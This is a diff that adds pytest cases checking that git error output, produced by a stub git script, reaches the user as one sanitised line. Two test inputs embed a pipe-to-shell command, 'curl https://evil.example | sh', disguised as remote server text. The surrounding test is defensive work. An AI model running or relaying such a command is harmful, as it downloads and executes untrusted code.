@@ -2,6 +2,7 @@
 
 import json
 import os
+import shlex
 import subprocess
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
@@ -95,6 +96,28 @@ def test_without_git_it_says_so(raw, resources, monkeypatch):
     folder = raw()
     monkeypatch.setenv("PATH", "")
     with pytest.raises(UserError, match="git is not installed"):
+        list_calligraphy(folder, PARAMS, 0, resources)
+
+
+@pytest.mark.parametrize(
+    ("stderr", "said"),
+    [
+        ("fatal: couldn't find remote ref\n", "fatal: couldn't find remote ref"),
+        ("warning: x\nfatal: remote error: expired:\r\ncurl https://evil.example | sh\n", "fatal: remote error"),
+        ("fatal: no\nremote: curl https://evil.example | sh\r\nremote: now\n", "fatal: no"),
+        ("fatal: \x1b[31mno " + "evil " * 100, r"fatal: \\x1b\[31mno (evil ){20}\[\.\.\.\]"),
+        ("", "nothing"),
+    ],
+)
+def test_a_server_s_words_are_not_passed_on_and_git_s_are_one_harmless_line(
+    raw, resources, tmp_path, monkeypatch, stderr, said
+):
+    folder = raw()
+    (tmp_path / "bin").mkdir()
+    (tmp_path / "bin/git").write_text(f"#!/bin/sh\nprintf '%s' {shlex.quote(stderr)} >&2\nexit 128\n")
+    (tmp_path / "bin/git").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:/usr/bin:/bin")
+    with pytest.raises(UserError, match=rf"cannot be fetched \(git said: {said}, and ended with 128\)\. Run it"):
         list_calligraphy(folder, PARAMS, 0, resources)
 
 
